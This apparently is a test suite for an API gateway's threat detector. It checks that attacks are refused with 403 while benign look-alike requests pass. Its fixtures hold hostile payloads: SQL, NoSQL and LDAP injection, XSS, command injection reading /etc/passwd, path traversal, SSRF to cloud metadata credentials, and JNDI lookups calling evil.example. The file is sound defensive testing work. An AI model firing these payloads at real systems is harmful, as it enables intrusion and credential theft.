/**
 * Threat detection through the whole gateway, with the real detectors: attacks in each input
 * location are refused with `attack_detected` and never reach the upstream; near-miss benign
 * requests pass; monitor mode records without refusing; exclusions, paranoia and the contract's
 * type information change what is scanned; events carry category, location, detector, score
 * and a short excerpt, never the whole value.
 */
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { request } from 'undici';
import { passthroughConfig, startTestGateway, startUpstream, type TestGateway, type Upstream } from './helpers.js';

const SPEC = `openapi: 3.1.0
info: { title: t, version: '1' }
paths:
  /articles/{id}:
    parameters: [{ name: id, in: path, required: true, schema: { type: string, format: uuid } }]
    put:
      operationId: putArticle
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              properties:
                title: { type: string }
                html: { type: string, description: rich text }
                status: { type: string, enum: ["draft", "published"] }
                filter: { type: string, enum: ["none", "' or 1=1--"] }
      responses: { '200': { description: ok } }
  /search:
    get:
      operationId: search
      parameters:
        - { name: q, in: query, schema: { type: string } }
        - { name: sort, in: query, schema: { type: string, enum: [asc, desc] } }
      responses: { '200': { description: ok } }
`;

async function send(gw: TestGateway, path: string, init: { method?: string; headers?: Record<string, string>; body?: string } = {}) {
  const r = await request(gw.url + path, { method: (init.method ?? 'GET') as 'GET', headers: init.headers, body: init.body });
  const text = await r.body.text();
  return { status: r.statusCode, type: String(r.headers['content-type'] ?? ''), body: text };
}

const json = (body: unknown, method = 'POST') => ({ method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

describe('threat detection through the gateway', () => {
  let up: Upstream;
  let gw: TestGateway;
  let monitor: TestGateway;
  let api: TestGateway;

  before(async () => {
    up = await startUpstream();
    gw = await startTestGateway(passthroughConfig(up.url));
    monitor = await startTestGateway(passthroughConfig(up.url, '    stages: { threats: { mode: monitor } }\n'));
    api = await startTestGateway(
      `version: 1
listeners: [{ port: 0, host: 127.0.0.1 }]
admin: { enabled: false }
apis:
  - name: cms
    spec: ./openapi.yaml
    upstream: ${up.url}
    public: true
    threats:
      exclusions:
        - { detectors: [xss], locations: ['body:/html'], operations: [putArticle] }
`,
      { 'openapi.yaml': SPEC },
    );
  });
  after(async () => {
    await gw?.close();
    await monitor?.close();
    await api?.close();
    await up?.close();
  });

  const attacks: [string, string, { method?: string; headers?: Record<string, string>; body?: string }][] = [
    ['sqli', '/items?id=' + encodeURIComponent("1' OR '1'='1' --"), {}],
    ['sqli', '/items?id=' + encodeURIComponent('1 UNION SELECT username, password FROM users'), {}],
    ['xss', '/search?q=' + encodeURIComponent('<script>alert(document.cookie)</script>'), {}],
    ['xss', '/comments', json({ text: '<img src=x onerror=alert(1)>' })],
    ['cmdi', '/ping?host=' + encodeURIComponent('127.0.0.1; cat /etc/passwd'), {}],
    ['traversal', '/download?file=' + encodeURIComponent('../../../../etc/passwd'), {}],
    ['ssrf', '/fetch', json({ url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })],
    ['jndi', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } }],
    ['nosqli', '/login', json({ user: 'admin', password: { $ne: null } })],
    ['prototype-pollution', '/settings', json(JSON.parse('{"__proto__":{"admin":true}}'))],
    ['sqli', '/items', { headers: { cookie: "pref=1' or 1=1--" } }],
    ['sqli', '/items?id=%2531%2527%2520or%25201%253d1--', {}],
    ['xss', '/form', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'comment=%3Csvg%2Fonload%3Dalert(1)%3E' }],
    // a request the upstream would take for another one than the gateway checked
    ['protocol', '/items/7 (X-HTTP-Method-Override: DELETE)', { method: 'POST', headers: { 'x-http-method-override': 'DELETE', 'content-type': 'application/json' }, body: '{}' }],
    ['protocol', '/public (X-Original-URL: /admin/users)', { headers: { 'x-original-url': '/admin/users' } }],
    // where API attacks arrive: a GraphQL argument, a hand-made Bearer token, a conditional header
    ['ldapi', '/graphql', json({ query: 'query { employees(filter: "*)(|(objectClass=*)(mail=*") { cn } }' })],
    ['sqli', '/api/status (Authorization: Bearer …UNION…)', { headers: { authorization: "Bearer x'/**/UNION/**/SELECT/**/password/**/FROM/**/users#" } }],
    ['jndi', '/static/app.js (If-Modified-Since: ${jndi…})', { headers: { 'if-modified-since': '${${lower:j}ndi:ldap://evil.example/a}' } }],
    // attack tooling: a scanner's User-Agent, an out-of-band callback host in a field
    ['protocol', '/items (User-Agent: sqlmap)', { headers: { 'user-agent': 'sqlmap/1.7.4#stable (https://sqlmap.org)' } }],
    ['protocol', '/webhooks', json({ url: 'http://c1a2b3d4e5.oast.fun/x' })],
  ];

  for (const [category, path, init] of attacks) {
    test(`${category} in ${path.slice(0, 50)} is refused and never forwarded`, async () => {
      const before = up.seen.length;
      const r = await send(gw, path.split(' ')[0]!, init);
      assert.equal(r.status, 403, r.body);
      assert.match(r.type, /application\/problem\+json/);
      const problem = JSON.parse(r.body) as { code: string };
      assert.equal(problem.code, 'attack_detected');
      assert.equal(up.seen.length, before, 'the upstream saw nothing');
    });
  }

  const benign: [string, { method?: string; headers?: Record<string, string>; body?: string }][] = [
    ['/people?name=' + encodeURIComponent("O'Brien"), {}],
    ['/search?q=' + encodeURIComponent('select a plan'), {}],
    ['/calc?expr=' + encodeURIComponent('1 - 2'), {}],
    ['/notes', json({ title: 'SQL tutorial', body: 'To list users, run the query SELECT name FROM users WHERE age > 30; it returns every name.' })],
    ['/notes', json({ body: '# Heading\n\n* item one\n* item two\n\n[link](https://example.com/docs?a=1&b=2)' })],
    ['/notes', json({ body: 'Save the file to C:\\Users\\bob\\Documents\\report.docx and send it to bob@example.com' })],
    ['/notes', json({ body: 'In C#, List<string> names = new List<string>(); is a generic list.' })],
    ['/webhooks', json({ url: 'https://hooks.example.com/services/T000/B000' })],
    ['/orders', json({ address: "c/ caridad s/n, campello, el", price: '12.50 €', phone: '+34 965 123 456' })],
    ['/items/7', { method: 'POST', headers: { 'x-http-method-override': 'post', 'content-type': 'application/json' }, body: '{}' }],
    ['/graphql', json({ query: 'mutation Save($id: ID!) { saveNote(id: $id, input: {title: "O\'Brien; select a plan", tags: ["a&b", "<draft>"]}) { id ...F } } fragment F on Note { updatedAt }', variables: { id: '7' } })],
    ['/me', { headers: { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'if-none-match': 'W/"<1 OR 1=1>"' } }],
    ['/items', { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36' } }],
    // a URL-encoded value in a JSON member: its `+` are spaces, and the text is prose
    ['/notes', json({ title: 'JavaScript%3A+Basics+of+JavaScript+Language' })],
  ];

  for (const [path, init] of benign) {
    test(`benign ${path.slice(0, 30)} ${init.body?.slice(0, 40) ?? ''} passes`, async () => {
      const r = await send(gw, path, init);
      assert.equal(r.status, 200, r.body);
    });
  }

  // Raw UTF-8 bytes in headers and cookies (what a browser sends for `’` or `①`): Node hands
  // them over one Latin-1 character per byte; the engine reads them as the UTF-8 they are.
  const rawHead: [string, string, number][] = [
    ['typographic quotes in a cookie', "Cookie: id=’ OR ’1’=’x’--\r\n", 403],
    ['circled digits in a header URL', 'X-Callback: http://①②⑦.⓪.⓪.①/admin\r\n', 403],
    ['a name with an apostrophe in a cookie', 'Cookie: name=O’Brien; lang=fr\r\n', 200],
    ['accented prose in a header', 'X-Note: José’s café — «très bien»\r\n', 200],
  ];
  for (const [what, header, status] of rawHead) {
    test(`raw UTF-8 in the head: ${what} -> ${status}`, async () => {
      const port = new URL(gw.url).port;
      const head = Buffer.from(`GET /items HTTP/1.1\r\nHost: 127.0.0.1\r\n${header}Connection: close\r\n\r\n`, 'utf8');
      const answer = await new Promise<string>((resolve, reject) => {
        const chunks: Buffer[] = [];
        const sock = connect(Number(port), '127.0.0.1', () => sock.write(head));
        sock.on('data', (c: Buffer) => chunks.push(c));
        sock.on('end', () => resolve(Buffer.concat(chunks).toString('latin1')));
        sock.on('error', reject);
      });
      assert.equal(answer.slice(9, 12), String(status), answer.slice(0, 200));
    });
  }

  test('the event names category, detector, location and score, with a short excerpt and no whole value', async () => {
    const marker = 'zz' + 'q'.repeat(300);
    const n = gw.events().length;
    const r = await send(gw, '/comments', json({ post: { text: `<script>alert(1)</script>${marker}` } }));
    assert.equal(r.status, 403);
    const events = await gw.waitEvents(n + 1);
    const ev = events[events.length - 1] as { code: string; threats: { score: number; findings: { category: string; detector: string; location: string; name: string; excerpt: string }[] } };
    assert.equal(ev.code, 'attack_detected');
    assert.ok(ev.threats.score >= 5);
    const f = ev.threats.findings.find((x) => x.category === 'xss');
    assert.ok(f, JSON.stringify(ev.threats));
    assert.equal(f.location, 'body');
    assert.equal(f.name, '/post/text');
    assert.match(f.detector, /^xss\./);
    assert.ok(f.excerpt.length <= 40);
    assert.ok(!JSON.stringify(ev).includes(marker), 'the value itself is not in the event');
  });

  test('a finding in a credential names the header and never shows its value', async () => {
    const n = gw.events().length;
    const token = "Bearer zz'/**/UNION/**/SELECT/**/secret_marker/**/FROM/**/keys#";
    const r = await send(gw, '/api/status', { headers: { authorization: token } });
    assert.equal(r.status, 403, r.body);
    const events = await gw.waitEvents(n + 1);
    const ev = events[events.length - 1] as { threats: { findings: { location: string; name: string; excerpt: string }[] } };
    assert.ok(ev.threats.findings.length > 0);
    for (const f of ev.threats.findings) {
      assert.equal(f.location, 'header');
      assert.equal(f.name, 'authorization');
      assert.equal(f.excerpt, '[REDACTED]');
    }
    assert.ok(!JSON.stringify(events).includes('secret_marker'), 'the credential is in no event');
  });

  test('monitor mode forwards the request and records what would have been refused', async () => {
    const n = monitor.events().length;
    const r = await send(monitor, '/items?id=' + encodeURIComponent("1' OR '1'='1' --"));
    assert.equal(r.status, 200);
    const events = await monitor.waitEvents(n + 1);
    const ev = events[events.length - 1] as { outcome: string; findings: { stage: string; code: string; monitored: boolean }[]; threats: { findings: { category: string }[] } };
    assert.equal(ev.outcome, 'allowed');
    assert.deepEqual(
      ev.findings.map((f) => [f.stage, f.code, f.monitored]),
      [['threats', 'attack_detected', true]],
    );
    assert.ok(ev.threats.findings.some((f) => f.category === 'sqli'));
  });

  test('exclusion: HTML in the declared rich-text field passes, the same HTML in the title does not', async () => {
    const id = '3f2b8c1e-4d5a-4b6c-8d7e-9f0a1b2c3d4e';
    const ok = await send(api, `/articles/${id}`, json({ title: 'Hello', html: '<p>Hi <img src=x onerror=alert(1)></p>', status: 'draft' }, 'PUT'));
    assert.equal(ok.status, 200, ok.body);
    const bad = await send(api, `/articles/${id}`, json({ title: '<img src=x onerror=alert(1)>', html: '<p>x</p>', status: 'draft' }, 'PUT'));
    assert.equal(bad.status, 403, bad.body);
  });

  test('type-aware: values the contract proved (uuid, enum) are not scanned; free text is', async () => {
    // An enum member cannot carry an injection: the contract refuses any other value first.
    const r = await send(api, '/search?q=hello&sort=asc');
    assert.equal(r.status, 200);
    const attack = await send(api, '/search?q=' + encodeURIComponent("' or 1=1--"));
    assert.equal(attack.status, 403);
    assert.equal((JSON.parse(attack.body) as { code: string }).code, 'attack_detected');
    // In the body too: the contract hands its typed inputs on to detection (the route has both).
    const id = '3f2b8c1e-4d5a-4b6c-8d7e-9f0a1b2c3d4e';
    const member = await send(api, `/articles/${id}`, json({ title: 'Hello', filter: "' or 1=1--" }, 'PUT'));
    assert.equal(member.status, 200, member.body);
    const free = await send(api, `/articles/${id}`, json({ title: "' or 1=1--", filter: 'none' }, 'PUT'));
    assert.equal(free.status, 403, free.body);
  });

  test('a request with more to inspect than the budget is refused (413 inspection_limit_exceeded), never passed uninspected', async () => {
    const small = await startTestGateway(passthroughConfig(up.url, 'threats:\n  limits: { maxItems: 16, maxBytes: 2048 }\n'));
    try {
      const before = up.seen.length;
      const many = await send(small, '/q?' + Array.from({ length: 20 }, (_, i) => `k${i}=v`).join('&'));
      assert.equal(many.status, 413, many.body);
      assert.equal((JSON.parse(many.body) as { code: string }).code, 'inspection_limit_exceeded');
      const big = await send(small, '/notes', json({ text: 'a'.repeat(4000) }));
      assert.equal(big.status, 413);
      assert.equal(up.seen.length, before);
      const ok = await send(small, '/q?a=1');
      assert.equal(ok.status, 200);
    } finally {
      await small.close();
    }
  });

  test('an attack in an undeclared parameter of a contract route is refused by the contract first', async () => {
    const r = await send(api, '/search?q=hi&evil=' + encodeURIComponent('<script>alert(1)</script>'));
    assert.equal(r.status, 400);
  });
});
